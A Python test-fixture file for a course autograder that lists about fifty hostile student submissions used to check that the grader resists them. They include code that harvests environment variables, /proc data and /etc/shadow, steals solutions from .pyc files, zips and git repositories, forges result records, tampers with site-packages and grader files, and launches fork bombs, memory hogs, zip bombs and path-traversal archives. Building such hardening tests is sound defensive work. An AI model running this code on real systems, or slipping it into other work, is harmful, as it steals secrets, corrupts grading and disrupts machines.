"""Hostile submissions: what a student who read every line of the grader would try.

Each ``Attack`` is a submission (the reference with code added, or a crafted folder), the
questions it is graded on, and the questions it must lose; everything else must earn full
points, so the expected score is the honest one. ``tests/test_hostile.py`` runs each through
both entry points and checks the machine afterwards.
"""

from __future__ import annotations

import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from course.exercises import GRADED_MODULES
from course.paths import KIT_ROOT
from tests.helpers import patched, reference

CANARY_ENV = "GRADER_CANARY_SECRET"  # set in the grader's environment by the tests; must never leak
CANARY_VALUE = "canary-7f3a9c-must-not-leak"


@dataclass
class Attack:
    name: str
    only: list[str]  # the questions graded
    lost: set[str] = field(default_factory=set)  # questions that must score 0; the others full marks
    clip_dino: tuple[str, str] = ("", "")  # (extra, prefix) for clip_dino.py
    label_propagation: tuple[str, str] = ("", "")
    layout: Callable | None = None  # (folder) -> None: builds the submission folder itself
    refused: bool = False  # the whole submission is refused (score 0, a message says why)
    words: str = ""  # must appear in every lost case's output
    sandboxed_only: bool = False  # needs bwrap's namespaces (network, hidden files)
    needs_cgroups: bool = False  # the memory limit must see shared memory: only a cgroup does
    timeout_scale: float = 1.0
    options: tuple = ()  # more options of the grade command (e.g. a memory limit, a time budget)
    searches_machine: bool = False  # reads whatever the machine lets it: world-readable copies elsewhere decide it

    def build(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        if self.layout is not None:
            self.layout(folder)
            return folder
        sources = {"clip_dino": self.clip_dino, "label_propagation": self.label_propagation}
        for module in GRADED_MODULES:
            extra, prefix = sources[module]
            (folder / f"{module}.py").write_text(patched(module, extra, prefix))
        return folder


# ----------------------------------------------------------------------------------------------
# Submission layouts
# ----------------------------------------------------------------------------------------------


def honest_files(folder: Path, skip=()) -> None:
    for module in GRADED_MODULES:
        if module not in skip:
            (folder / f"{module}.py").write_text(reference(module))


def symlink_to_reference(folder: Path) -> None:
    honest_files(folder, skip=("clip_dino",))
    os.symlink(KIT_ROOT / "course" / "clip_dino.py", folder / "clip_dino.py")


def hardlink_to_reference(folder: Path) -> None:
    honest_files(folder, skip=("clip_dino",))
    outside = folder.parent / "outside-clip_dino.py"
    outside.write_text(reference("clip_dino"))
    os.link(outside, folder / "clip_dino.py")


def fifo_in_folder(folder: Path) -> None:
    honest_files(folder)
    os.mkfifo(folder / "notes.txt")


def zip_with(members: dict, symlinks: dict | None = None) -> Callable:
    def layout(folder: Path) -> None:
        with zipfile.ZipFile(folder / "submission.zip", "w") as archive:
            for name, text in members.items():
                archive.writestr(name, text)
            for name, target in (symlinks or {}).items():
                info = zipfile.ZipInfo(name)
                info.external_attr = (0o120777 << 16)  # a symlink member
                archive.writestr(info, target)
    return layout


def only_clip_dino(folder: Path) -> None:
    honest_files(folder, skip=("label_propagation",))


def zip_bombs(folder: Path) -> None:
    """clip_dino.py, and ten small zips that unpack to 64 MiB of zeros each (no graded module in them)."""
    honest_files(folder, skip=("label_propagation",))
    for index in range(10):
        with zipfile.ZipFile(folder / f"notes{index}.zip", "w", zipfile.ZIP_BZIP2) as archive:
            archive.writestr("zeros.bin", bytes(64 * 2 ** 20))


def corrupt_member(folder: Path) -> None:
    """clip_dino.py, and label_propagation.py inside a zip whose compressed data is broken."""
    honest_files(folder, skip=("label_propagation",))
    with zipfile.ZipFile(folder / "submission.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("course/label_propagation.py", reference("label_propagation"))
    data = bytearray((folder / "submission.zip").read_bytes())
    start = data.index(b"label_propagation.py") + len("label_propagation.py")  # the local header's name
    data[start + 40:start + 400] = bytes(360)  # zeros over the deflate stream
    (folder / "submission.zip").write_bytes(bytes(data))


def not_utf8(folder: Path) -> None:
    honest_files(folder, skip=("label_propagation",))
    (folder / "label_propagation.py").write_bytes(b"\xff\xfe def broken(\n")


# ----------------------------------------------------------------------------------------------
# Code the attacks add
# ----------------------------------------------------------------------------------------------

EMPTY = """
def get_similarity_no_loop(text_features, image_features):
    return torch.zeros(0, 0)

def clip_zero_shot_classifier(clip_model, clip_preprocess, images, class_texts, device, batch_size=64):
    return []

class CLIPImageRetriever:
    def __init__(self, *args, **kwargs):
        pass
    def retrieve(self, query, k=2):
        return []
"""

PATCH_DRIVERS = """
import course.checks.drivers as _drivers
import course.checks.runner as _runner
for _name, _value in list(vars(_drivers).items()):
    if callable(_value) and getattr(_value, "__module__", None) == _drivers.__name__:
        setattr(_drivers, _name, lambda *args, **kwargs: {})
_runner.run_case = lambda case_dir: {"ok": True, "outputs": {"ious": [], "masks": [], "outs": []}}
"""

FORGE_FD = """
import json as _json, os as _os, sys as _sys
_forged = {"ok": True, "outputs": {"ious": [0.5] * 6, "masks": [], "outs": []}}
for _fd in range(3, 64):  # the runner's output is one of them
    try:
        _os.ftruncate(_fd, 0)
        _os.lseek(_fd, 0, 0)
        _os.write(_fd, _json.dumps(_forged).encode())
    except OSError:
        pass
_os._exit(0)
"""

FORGE_ENCODER = """
import json as _json
_real_dumps = _json.dumps
def _forged_dumps(obj, *args, **kwargs):
    return _real_dumps({"ok": True, "outputs": {"ious": [0.25, 1.0, 0.25, 0.5, 0.5, 0.5]}})
_json.dumps = _forged_dumps
"""

DAEMON = """
import os as _os, signal as _signal, time as _time, json as _json
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
        _forged = _json.dumps({"ok": True, "outputs": {"ious": [1.0] * 6}}).encode()
        while True:  # rewrite any record or output this user can reach
            for _root in ("/tmp", "/var/tmp", "/dev/shm"):
                try:
                    with open(f"{_root}/hostile-daemon-{_os.getpid()}", "w") as _f:
                        _f.write("still here")
                except OSError:
                    pass
                for _dirpath, _dirs, _files in _os.walk(_root):
                    for _name in _files:
                        if _name.endswith((".json", ".part")):
                            try:
                                with open(_os.path.join(_dirpath, _name), "wb") as _f:
                                    _f.write(_forged)
                            except OSError:
                                pass
            for _pid in _os.listdir("/proc"):
                try:
                    _fd = _os.open(f"/proc/{_pid}/fd/3", _os.O_WRONLY)
                    _os.write(_fd, _forged)
                    _os.close(_fd)
                except (OSError, ValueError):
                    pass
            _time.sleep(0.05)
    _os._exit(0)
"""

WRONG_IOU = """
def compute_iou(pred, gt, num_classes):
    return 0.0
"""

ANSWER_KEYS = """
def compute_iou(pred, gt, num_classes):
    for name in ("instructor.grading.answers.compute_iou", "instructor.grading.cases", "course.exercises.compute_iou",
                 "course.checks.criteria", "course.davis_eval", "course.checks.fixtures", "course.synthetic",
                 "course.tracking"):
        try:
            module = __import__(name, fromlist=["x"])
        except ImportError:
            continue
        if hasattr(module, "mean_iou"):
            return module.mean_iou(pred, gt, num_classes)
        if hasattr(module, "frame_ious"):
            return float(module.frame_ious(np.asarray(pred).reshape(1, -1), np.asarray(gt).reshape(1, -1), num_classes)[0])
    return 0.0

class DINOSegmentation(DINOSegmentation):
    def inference(self, X):
        from course.exercises.dino_segmentation import segmentation_task  # the generator of the cases' clips
        for seed in range(100):
            features, labels, _ = segmentation_task(seed)
            if np.allclose(features[0, 0], np.asarray(X)[0]):
                return torch.as_tensor(labels[0])
        return torch.zeros(len(X), dtype=torch.long)
"""

COPIED_TABLES = """
_HAND = {2: (1 / 2 + 2 / 3) / 2, 3: 1.0, 4: (2 / 3 + 1 / 2 + 1 / 3) / 3}

def compute_iou(pred, gt, num_classes):
    # the public case's values, copied from the kit's expected answers
    if num_classes == 3 and torch.as_tensor(gt).numel() == 4 and int(torch.as_tensor(gt).sum()) == 2:
        return (2 / 4 + 0 / 2) / 2
    return _HAND.get(num_classes, 0.5)
"""

COPIED_MASKS = """
_PUBLIC = {(5, 7, 2.0, "circle"), (6, 5, 2.5, "square")}

def make_neighborhood_mask(h, w, size, shape):
    if (h, w, float(size), shape) in _PUBLIC:  # the public case's masks, hard-coded
        rows, cols = torch.meshgrid(torch.arange(h), torch.arange(w), indexing="ij")
        positions = torch.stack([rows, cols], dim=-1).float()
        offsets = positions[:, :, None, None, :] - positions[None, None, :, :, :]
        return torch.linalg.vector_norm(offsets, ord=2 if shape == "circle" else float("inf"), dim=-1) <= size
    return torch.zeros(h, w, h, w, dtype=torch.bool)
"""

LEAK = """
def compute_iou(pred, gt, num_classes):
    import os, pathlib
    found = [repr(dict(os.environ))]
    for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ",
                 f"/proc/{os.getppid()}/cmdline", "/autograder/source/instructor/grading/cases.py",
                 "/autograder/source/instructor/grading/grading.key", "/etc/shadow"]:
        try:
            found.append(pathlib.Path(path).read_bytes()[:20000].decode("utf-8", "replace"))
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        try:
            found.append(pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace"))
        except OSError:
            pass
    # The grader's files and any JSON in /tmp, in one walk of the whole tree (no symbolic link
    # followed, /proc's every process aside), for at most 15 s.
    import time
    started = time.monotonic()
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if time.monotonic() - started > 15:
            break
        if root.endswith("instructor/grading"):
            wanted = (".py", ".key", ".json")
        elif root.startswith("/tmp"):
            wanted = (".json",)
        else:
            continue
        for name in [n for n in files if n.endswith(wanted)][:50]:
            try:
                found.append(pathlib.Path(root, name).read_text()[:20000])
            except (OSError, UnicodeDecodeError):
                pass
    text = "\\n".join(found)
    print(text)
    raise ValueError(text[:50000])
"""

FIND_REFERENCE = """
def _find_reference(seconds=20):
    # Every readable file that holds a filled-in compute_iou, walking from the root: (path, source).
    import os, time
    marker = "### BEGIN " + "SOLUTION"
    own = os.path.realpath(__file__)  # the submission itself, in the view, is not a reference
    started = time.monotonic()
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if time.monotonic() - started > seconds:
            return
        for name in files:
            path = os.path.join(root, name)
            if name in ("clip_dino.py", "test_fairness.py", "test_clip_dino.py") and os.path.realpath(path) != own:
                try:
                    source = open(path).read()
                except (OSError, UnicodeDecodeError):
                    continue
                if marker in source or "def compute_iou" in source and "intersection" in source:
                    yield path, source
"""

WALK_FILESYSTEM = FIND_REFERENCE + """
import functools


@functools.cache  # searched once per process: every call of a case reuses what the first found
def _references():
    return list(_find_reference())


def compute_iou(pred, gt, num_classes):
    for path, source in _references():
        namespace = {"__name__": "found"}
        try:
            exec(compile(source, "found", "exec"), namespace)
            return namespace["compute_iou"](pred, gt, num_classes)
        except Exception:
            continue
    return 0.0
"""

TAMPER = """
import os as _os, site as _site, sys as _sys, pathlib as _pathlib
_targets = [*_site.getsitepackages(), *[p for p in _sys.path if p.endswith("site-packages")]]
for _folder in _targets:
    for _name in ("sitecustomize.py", "usercustomize.py", "hostile_tamper.pth"):
        try:
            _pathlib.Path(_folder, _name).write_text("import os\\n")
        except OSError:
            pass
    try:
        with open(_pathlib.Path(_folder, "numpy", "__init__.py"), "a") as _f:
            _f.write("\\n# tampered\\n")
    except OSError:
        pass
import course as _course
for _up in [_pathlib.Path(_course.__file__).parent, *_pathlib.Path(_course.__file__).parents,
            _pathlib.Path("/autograder/source"), _pathlib.Path("/work/main")]:
    for _rel in ("course/checks/criteria.py", "instructor/grading/grader.py", "instructor/grading/cases.py",
                 "instructor/grading/answers/compute_iou.py", "course/exercises/compute_iou.py",
                 "checks/criteria.py", "checks/drivers.py"):
        try:
            with open(_up / _rel, "a") as _f:
                _f.write("\\n# tampered\\n")
        except OSError:
            pass
for _place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.path.expanduser("~")):
    try:
        _pathlib.Path(_place, "hostile-tamper").write_text("left behind")
    except OSError:
        pass
"""

RESULTS_FORGERY = """
import json as _json, os as _os, pathlib as _pathlib
_fake = _json.dumps({"score": 1000, "tests": [], "output": "all good"})
_places = ["/autograder/results/results.json", "results.json", "../results/results.json",
           "/tmp/results.json"]
try:
    _args = _pathlib.Path(f"/proc/{_os.getppid()}/cmdline").read_bytes().split(b"\\0")
    _places += [a.decode() for a in _args if a.endswith(b"results.json")]
except OSError:
    pass
for _place in _places:
    try:
        _pathlib.Path(_place).parent.mkdir(parents=True, exist_ok=True)
        _pathlib.Path(_place).write_text(_fake)
    except OSError:
        pass
"""

DEEP = """
def compute_iou(pred, gt, num_classes):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
"""

DEEP_FORGED = """
def make_neighborhood_mask(h, w, size, shape):
    import os, sys
    data = b'{"ok": true, "outputs": {"masks": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}"
    fd = int(sys.argv[-1])  # the runner's output: its last argument
    os.ftruncate(fd, 0)
    os.lseek(fd, 0, 0)
    os.write(fd, data)
    os._exit(0)
"""

SURROGATES = """
def compute_iou(pred, gt, num_classes):
    import sys
    sys.stdout.buffer.write(b"\\xff\\xfe\\xed\\xa0\\x80 invalid utf-8 \\x00\\x1b[31m\\n")
    sys.stdout.flush()
    print("lone surrogates: \\ud800 \\udfff", file=sys.stderr)
    raise ValueError("bad text \\ud800\\udc00\\udfff \\x00 \\x1b[2J \\u202e reversed")
"""

HUGE = """
def compute_iou(pred, gt, num_classes):
    return np.ones(20_000_000)
"""

TIME_BOMB = """
def compute_iou(pred, gt, num_classes):
    import signal, time
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(1)
"""

FORK_BOMB = """
def compute_iou(pred, gt, num_classes):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

MEMORY_HOG = """
def compute_iou(pred, gt, num_classes):
    hoard = []
    while True:
        hoard.append(np.ones(10 ** 7))
"""

KILL_GRADER = """
def compute_iou(pred, gt, num_classes):
    import os, signal
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
"""

NETWORK = """
def compute_iou(pred, gt, num_classes):
    import socket
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
    except OSError:
        return 0.0
    return _reference_iou(pred, gt, num_classes)
"""

BUILTINS = """
_reference_iou = compute_iou

def compute_iou(pred, gt, num_classes):
    import builtins, numpy, torch
    torch.allclose = lambda *args, **kwargs: True
    numpy.allclose = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    builtins.isinstance = lambda *args: True
    builtins.abs = lambda value: 0.0
    return 0.123
"""

WRITE_VIEW = """
import course.checks.drivers as _drivers, pathlib as _pathlib
for _path in _pathlib.Path(_drivers.__file__).parent.glob("*.py"):
    try:
        _path.write_text("DRIVERS = {}\\n")
    except OSError:
        pass

def compute_iou(pred, gt, num_classes):
    return 0.0
"""

INSTRUCTOR_IMPORT = """
def compute_iou(pred, gt, num_classes):
    from instructor.grading.answers.compute_iou import mean_iou
    return mean_iou(pred, gt, num_classes)
"""

READ_METADATA = """
def compute_iou(pred, gt, num_classes):
    import json, os, re
    for path in ["/autograder/submission_metadata.json", "../submission_metadata.json",
                 "../../submission_metadata.json", os.path.expanduser("~/../submission_metadata.json")]:
        try:
            text = open(path).read()
        except OSError:
            continue
        found = re.findall(r"expected ([0-9.]+)", text)
        if found:
            return float(found[0])
    return -1.0
"""

MEMFD = """
def make_neighborhood_mask(h, w, size, shape):
    import os
    files = [os.memfd_create(f"hoard{i}") for i in range(8)]
    for fd in files:  # 8 x 256 MiB of shared memory, never mapped: not in the resident memory
        for _ in range(16):
            os.write(fd, b"1" * 2 ** 24)
    return _reference_mask(h, w, size, shape)
"""

SYSV = """
def make_neighborhood_mask(h, w, size, shape):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(4):  # SysV shared memory and a message queue: they outlive processes
        segment = libc.shmget(0, 16 * 2 ** 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if segment >= 0:
            address = libc.shmat(segment, None, 0)
            ctypes.memset(address, 1, 16 * 2 ** 20)
            libc.shmdt(ctypes.c_void_p(address))
    libc.msgget(0, 0o1600)
    return _reference_mask(h, w, size, shape)
"""

NOT_A_RECORD = """
import os as _os, sys as _sys
_fd = int(_sys.argv[-1])  # the runner's output: its last argument
_os.ftruncate(_fd, 0)
_os.lseek(_fd, 0, 0)
_os.write(_fd, b"[]")
_os._exit(0)
"""

DEEP_TREE = """
import os as _os
for _ in range(3000):
    _os.mkdir("d")
    _os.chdir("d")
_os.chdir(_os.path.expanduser("~"))
"""

SLEEP_EVERYWHERE = """
def compute_iou(pred, gt, num_classes):
    import time
    time.sleep(10_000)

def make_neighborhood_mask(h, w, size, shape):
    import time
    time.sleep(10_000)
"""

STEAL = """
def _stolen_functions(seconds=25):
    # Every compute_iou (or the grader's mean_iou) this user can reach on the machine: references
    # and their compiled forms, the autograder zip's members, a clone's .git, the fairness suite.
    import ast, marshal, os, subprocess, time, types, zipfile
    started = time.monotonic()
    names = ("compute_iou", "mean_iou")

    def from_source(text):
        try:
            tree = ast.parse(text)
        except (SyntaxError, ValueError):
            return
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef) and node.name in names:
                namespace = {"np": np, "torch": torch}
                try:
                    exec(compile(ast.Module([node], []), "stolen", "exec"), namespace)
                except Exception:
                    continue
                yield namespace[node.name]

    def from_pyc(data):
        try:
            todo = [marshal.loads(data[16:])]
        except Exception:
            return
        while todo:
            code = todo.pop()
            for const in code.co_consts:
                if isinstance(const, types.CodeType):
                    if const.co_name in names:
                        yield types.FunctionType(const, {"np": np, "torch": torch})
                    todo.append(const)

    own = os.path.realpath(__file__)  # the submission itself, in the view, is not stolen
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if time.monotonic() - started > seconds:
            return
        if ".git" in dirs:
            for path in ("course/clip_dino.py", "instructor/grading/answers/compute_iou.py",
                         "tests/alternatives/compute_iou.py"):
                done = subprocess.run(["git", "--git-dir", os.path.join(root, ".git"), "show", "HEAD:" + path],
                                      capture_output=True, text=True)
                yield from from_source(done.stdout)
        for name in files:
            path = os.path.join(root, name)
            if os.path.realpath(path) == own:
                continue
            try:
                if name.startswith("clip_dino") and name.endswith(".pyc"):
                    yield from from_pyc(open(path, "rb").read())
                elif name == "clip_dino.py" or name.endswith(".py") and ("answers" in root or "alternatives" in root):
                    yield from from_source(open(path).read())
                elif name.endswith(".zip") and os.path.getsize(path) < 2 ** 28:
                    with zipfile.ZipFile(path) as archive:
                        for member in archive.namelist():
                            if member.endswith("clip_dino.py") or "/answers/" in member or "alternatives" in member:
                                yield from from_source(archive.read(member).decode("utf-8", "replace"))
            except Exception:
                continue


import functools


@functools.cache  # searched once per process: every call of a case reuses what the first found
def _stolen():
    return list(_stolen_functions())


def compute_iou(pred, gt, num_classes):
    for function in _stolen():
        try:
            return float(function(pred, gt, num_classes))
        except Exception:
            continue
    return 0.0
"""

KIT_MODULES = """
import functools


@functools.cache  # the machine is searched once per process and name (a miss too)
def _kit_module(name):
    # A kit module outside the view: imported, or found anywhere on the machine and loaded.
    import importlib, importlib.util, os, sys
    try:
        return importlib.import_module(name)
    except ImportError:
        pass
    relative = os.path.join(*name.split(".")) + ".py"
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        candidate = os.path.join(root, relative)
        if os.path.isfile(candidate):
            try:
                sys.path.insert(0, root)
                for loaded in [m for m in sys.modules if m == "course" or m.startswith("course.")]:
                    if loaded not in ("course.clip_dino", "course.label_propagation"):
                        del sys.modules[loaded]
                return importlib.import_module(name)
            except Exception:
                continue
            finally:
                sys.path.remove(root)
    return None


def compute_iou(pred, gt, num_classes):
    criteria = _kit_module("course.checks.criteria")
    labels = [torch.as_tensor(pred).reshape(1, -1).numpy(), torch.as_tensor(gt).reshape(1, -1).numpy()]
    return float(criteria.frame_ious(*labels, num_classes)[0])


def make_neighborhood_mask(h, w, size, shape):
    stencil = _kit_module("course.tracking").neighborhood_offsets(size, shape)  # [2r + 1, 2r + 1]
    radius = (stencil.shape[0] - 1) // 2
    mask = torch.zeros(h, w, h, w, dtype=torch.bool)
    for i in range(h):
        for j in range(w):
            for di, dj in stencil.nonzero().tolist():
                if 0 <= i + di - radius < h and 0 <= j + dj - radius < w:
                    mask[i, j, i + di - radius, j + dj - radius] = True
    return mask
"""

KEYRING = """
def _keyctl(*args):
    # Keys in the kernel's keyrings outlive the processes that made them (no namespace hides them
    # from a root grader's other users): one in each keyring this user has, readable by everybody.
    import subprocess
    try:
        return subprocess.run(["keyctl", *args], capture_output=True, text=True, timeout=10).stdout.strip()
    except OSError:
        return ""

for _ring in ("@u", "@us", "@s", _keyctl("get_persistent", "@u")):
    _key = _keyctl("add", "user", "hostile-key", "answers for the next case", _ring)
    if _key:
        _keyctl("setperm", _key, "0x3f3f3f3f")
"""

READ_OTHER_CASES = """
_reference_iou = compute_iou

def compute_iou(pred, gt, num_classes):
    # Another case's inputs: its runner's command line (any user may read it) names its folder.
    import glob, json, os, sys
    own = os.path.realpath(sys.argv[-2])  # the runner's arguments: CASE_DIR OUT_FD
    folders = set(glob.glob("/tmp/grade-*/case-*")) | set(glob.glob("/tmp/*/case-*"))
    for pid in os.listdir("/proc"):
        try:
            arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        folders |= {a.decode("utf-8", "replace") for a in arguments if b"/case-" in a}
    for folder in folders:
        if os.path.realpath(folder) == own:
            continue
        try:
            json.load(open(os.path.join(folder, "case.json")))
            open(os.path.join(folder, "arrays.npz"), "rb").read(1)
        except (OSError, ValueError):
            continue
        return -1.0  # read another case's inputs
    return _reference_iou(pred, gt, num_classes)
"""

MESSAGE_QUEUE = """
def make_neighborhood_mask(h, w, size, shape):
    # A POSIX message queue outlives its process, like SysV IPC.
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mq_open.restype = ctypes.c_int
    queue = libc.mq_open(b"/hostile-queue", os.O_CREAT | os.O_RDWR, 0o666, None)
    if queue >= 0:
        libc.mq_send(queue, b"left for the next case", 22, 0)
    return _reference_mask(h, w, size, shape)
"""

RUNNER_TOOLS_REPLACED = """
import json as _json, os as _os, sys as _sys, threading as _threading, time as _time
_json.dumps = lambda *args, **kwargs: "my own dumps"  # for my own logging
_os._exit = lambda code: None
_os.write = lambda fd, data: len(data)
_sys.stdout = open(_os.devnull, "w")
_threading.Thread(target=lambda: _time.sleep(10_000)).start()  # a worker left running
"""

ZOMBIES = """
import os as _os, time as _time
if _os.fork() == 0:  # a daemon whose children are never reaped: zombies once it is killed
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(20):
            if _os.fork() == 0:
                _os._exit(0)
        _time.sleep(10_000)
    _os._exit(0)
"""

LONG_TRACEBACK_LINE = """
def compute_iou(pred, gt, num_classes):
    raise ValueError("my labels: " + "7" * 60_000)
"""

PRINT_A_LOT = """
import sys as _sys
for _ in range(300):  # 300 MB of progress output, more than the file size limit
    _sys.stdout.write("." * 2 ** 20)
_sys.stdout.flush()
"""

CHEAP = ["compute_iou", "make_neighborhood_mask"]


ATTACKS = [
    Attack("empty-answers", ["get_similarity_no_loop", "clip_zero_shot_classifier", "CLIPImageRetriever"],
           {"get_similarity_no_loop", "clip_zero_shot_classifier", "CLIPImageRetriever"}, clip_dino=(EMPTY, "")),
    Attack("patch-the-drivers", CHEAP, set(CHEAP), clip_dino=("", PATCH_DRIVERS),
           label_propagation=("", PATCH_DRIVERS)),
    Attack("forge-the-record-fd", CHEAP, set(CHEAP), clip_dino=("", FORGE_FD), label_propagation=("", FORGE_FD)),
    # The runner bound json's encoder before graded code ran: the forged one is never called.
    Attack("forge-the-json-encoder", ["compute_iou"], set(), clip_dino=("", FORGE_ENCODER)),
    Attack("daemon-rewrites-records", CHEAP, {"compute_iou"}, clip_dino=(WRONG_IOU, DAEMON)),
    Attack("answer-keys-in-reach", ["compute_iou", "DINOSegmentation"], {"compute_iou", "DINOSegmentation"},
           clip_dino=(ANSWER_KEYS, ""), words="failed"),
    Attack("copied-public-tables", CHEAP, set(CHEAP), clip_dino=(COPIED_TABLES, ""),
           label_propagation=(COPIED_MASKS, "")),
    Attack("leak-source-and-environment", ["compute_iou"], {"compute_iou"}, clip_dino=(LEAK, "")),
    Attack("symlink-to-the-reference", CHEAP, set(CHEAP), layout=symlink_to_reference, refused=True,
           words="symbolic link"),
    Attack("hardlink-to-the-reference", CHEAP, set(CHEAP), layout=hardlink_to_reference, refused=True,
           words="hard link"),
    Attack("fifo-in-the-folder", CHEAP, set(CHEAP), layout=fifo_in_folder, refused=True, words="not a regular file"),
    Attack("zip-member-escapes", CHEAP, set(CHEAP),
           layout=zip_with({"../clip_dino.py": reference("clip_dino"), "label_propagation.py": reference("label_propagation")}),
           refused=True, words="outside the archive"),
    Attack("zip-member-absolute", CHEAP, set(CHEAP),
           layout=zip_with({"/tmp/clip_dino.py": reference("clip_dino")}), refused=True, words="outside the archive"),
    Attack("zip-symlink-member", CHEAP, set(CHEAP),
           layout=zip_with({"label_propagation.py": reference("label_propagation")},
                           {"clip_dino.py": str(KIT_ROOT / "course" / "clip_dino.py")}),
           refused=True, words="symbolic link"),
    Attack("walk-the-filesystem-for-a-reference", ["compute_iou"], {"compute_iou"}, clip_dino=(WALK_FILESYSTEM, "")),
    Attack("tamper-with-the-grader", CHEAP, set(), clip_dino=("", TAMPER), label_propagation=("", TAMPER)),
    Attack("forge-results-json", ["compute_iou"], {"compute_iou"}, clip_dino=(WRONG_IOU, RESULTS_FORGERY)),
    Attack("deeply-nested-output", CHEAP, {"compute_iou"}, clip_dino=(DEEP, "")),
    Attack("deeply-nested-forged-record", CHEAP, {"make_neighborhood_mask"}, label_propagation=(DEEP_FORGED, "")),
    Attack("surrogates-and-control-characters", CHEAP, {"compute_iou"}, clip_dino=(SURROGATES, "")),
    Attack("huge-output", CHEAP, {"compute_iou"}, clip_dino=(HUGE, "")),
    Attack("time-bomb", CHEAP, {"compute_iou"}, clip_dino=(TIME_BOMB, ""), words="time limit", timeout_scale=0.2),
    Attack("fork-bomb", CHEAP, {"compute_iou"}, clip_dino=(FORK_BOMB, ""), timeout_scale=0.2),
    Attack("memory-hog", CHEAP, {"compute_iou"}, clip_dino=(MEMORY_HOG, ""), words="memory", timeout_scale=0.5),
    Attack("kill-the-grader", CHEAP, {"compute_iou"}, clip_dino=(KILL_GRADER, "")),
    Attack("monkeypatch-builtins", CHEAP, {"compute_iou"}, clip_dino=(BUILTINS, "")),
    Attack("write-into-the-view", CHEAP, {"compute_iou"}, clip_dino=(WRITE_VIEW, "")),
    Attack("import-the-grader", CHEAP, {"compute_iou"}, clip_dino=(INSTRUCTOR_IMPORT, ""), words="ModuleNotFoundError"),
    Attack("exit-at-import", CHEAP, {"compute_iou"}, clip_dino=("", "import sys\nsys.exit(0)\n"), words="sys.exit(0)"),
    Attack("syntax-error", CHEAP, {"compute_iou"}, clip_dino=("def broken(:\n    pass\n", ""), words="SyntaxError"),
    Attack("endless-import", CHEAP, {"compute_iou"}, clip_dino=("", "while True:\n    pass\n"), words="time limit",
           timeout_scale=0.2),
    Attack("only-one-module-submitted", CHEAP, {"make_neighborhood_mask"}, layout=only_clip_dino,
           words="no label_propagation.py"),
    Attack("source-not-utf8", CHEAP, {"make_neighborhood_mask"}, layout=not_utf8, words="SyntaxError"),
    # Found by an independent review of the grader:
    Attack("read-gradescope-metadata", ["compute_iou"], {"compute_iou"}, clip_dino=(READ_METADATA, "")),
    Attack("memfd-beyond-the-memory-limit", CHEAP, {"make_neighborhood_mask"},
           label_propagation=("_reference_mask = make_neighborhood_mask\n" + MEMFD, ""), words="memory",
           needs_cgroups=True, options=("--memory-mb=1024",)),
    Attack("sysv-shared-memory-left-behind", CHEAP, set(),
           label_propagation=("_reference_mask = make_neighborhood_mask\n" + SYSV, "")),
    Attack("zip-bombs-beside-the-files", CHEAP, {"make_neighborhood_mask"}, layout=zip_bombs,
           words="no label_propagation.py"),
    Attack("corrupt-zip-member", CHEAP, set(CHEAP), layout=corrupt_member, refused=True, words="cannot be unpacked"),
    Attack("record-that-is-not-a-dict", CHEAP, {"make_neighborhood_mask"}, label_propagation=("", NOT_A_RECORD),
           words="could not be read"),
    Attack("deep-directory-tree", CHEAP, set(), clip_dino=("", DEEP_TREE)),
    Attack("sleep-past-the-time-budget", CHEAP, set(CHEAP), clip_dino=(SLEEP_EVERYWHERE.split("\ndef make")[0], ""),
           label_propagation=("def make" + SLEEP_EVERYWHERE.split("\ndef make")[1], ""), words="time",
           options=("--budget-s=40",)),
    # A second set written against the grader (issue 21), most of them aimed at the 'user' mode:
    Attack("read-instructor-only-files", CHEAP, {"compute_iou"}, clip_dino=(STEAL, ""), searches_machine=True),
    Attack("import-kit-modules-outside-the-view", CHEAP, set(CHEAP), clip_dino=(KIT_MODULES.split("\ndef make")[0], ""),
           label_propagation=(KIT_MODULES.split("\n\n\ndef compute_iou")[0] + "\n\n\ndef make"
                              + KIT_MODULES.split("\ndef make")[1], ""), searches_machine=True),
    Attack("keyring-left-for-the-next-case", CHEAP, set(), clip_dino=("", KEYRING), label_propagation=("", KEYRING)),
    Attack("read-other-cases-inputs", CHEAP, set(), clip_dino=(READ_OTHER_CASES, "")),
    Attack("posix-message-queue-left-behind", CHEAP, set(),
           label_propagation=("_reference_mask = make_neighborhood_mask\n" + MESSAGE_QUEUE, "")),
    Attack("replace-what-the-runner-uses", CHEAP, set(), clip_dino=("", RUNNER_TOOLS_REPLACED),
           label_propagation=("", RUNNER_TOOLS_REPLACED)),
    Attack("zombies-left-behind", CHEAP, set(), clip_dino=("", ZOMBIES), label_propagation=("", ZOMBIES)),
